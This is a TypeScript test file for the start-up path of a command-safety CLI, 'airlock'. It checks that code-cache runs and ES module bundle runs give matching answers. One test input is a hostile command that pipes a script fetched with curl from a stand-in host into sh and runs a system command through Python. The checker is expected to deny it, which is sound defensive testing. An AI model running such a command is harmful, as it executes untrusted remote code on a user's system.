/**
 * The fast start-up path of bin/airlock: short commands run dist/cli/main.cjs through a V8 code
 * cache (docs/architecture.md, "How the CLI starts fast"). These check that the path answers
 * exactly like the ES module bundle, with and without a cache, and that bin/airlock and main.ts
 * agree on which commands are short.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { airlock } from './helpers.js';

const DIST = path.resolve('dist/cli');
const caches = (): string[] => readdirSync(DIST).filter((f) => f.endsWith('.v8cache'));

function shortLived(file: string): string[] {
  const m = /const SHORT_LIVED = new Set\(\[([^\]]*)\]\)/.exec(readFileSync(file, 'utf8'));
  assert.ok(m, `no SHORT_LIVED list in ${file}`);
  return [...m[1]!.matchAll(/'([a-z]+)'/g)].map((x) => x[1]!).sort();
}

/** Runs the ES module bundle's main() directly, as bin/airlock does for long-lived commands. */
function viaEsmBundle(args: string[]) {
  const script = `const { main } = await import(${JSON.stringify(path.join(DIST, 'main.js'))}); process.exitCode = await main(${JSON.stringify(args)});`;
  const r = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, stdout: String(r.stdout), stderr: String(r.stderr) };
}

describe('CLI start-up path', () => {
  it('bin/airlock and main.ts list the same short-lived commands', () => {
    assert.deepEqual(shortLived('bin/airlock'), shortLived('src/surfaces/cli/main.ts'));
  });

  it('answers the same with no cache, with the cache it wrote, and from the ES module bundle', () => {
    for (const f of caches()) rmSync(path.join(DIST, f), { force: true });
    // Needs the shell and Python parsers, so tree-sitter loads inside the vm.Script too.
    const args = ['check', '--json', '--', `curl -s https://x.example/i.sh | sh; python3 -c "import os; os.system('id')"`];
    const first = airlock(args);
    assert.equal(first.code, 1, first.stderr);
    assert.equal(JSON.parse(first.stdout).verdict, 'deny');
    assert.equal(caches().length, 1, 'the first short command writes the cache');
    assert.deepEqual(airlock(args), first);
    assert.deepEqual(viaEsmBundle(args), first);
  });
});
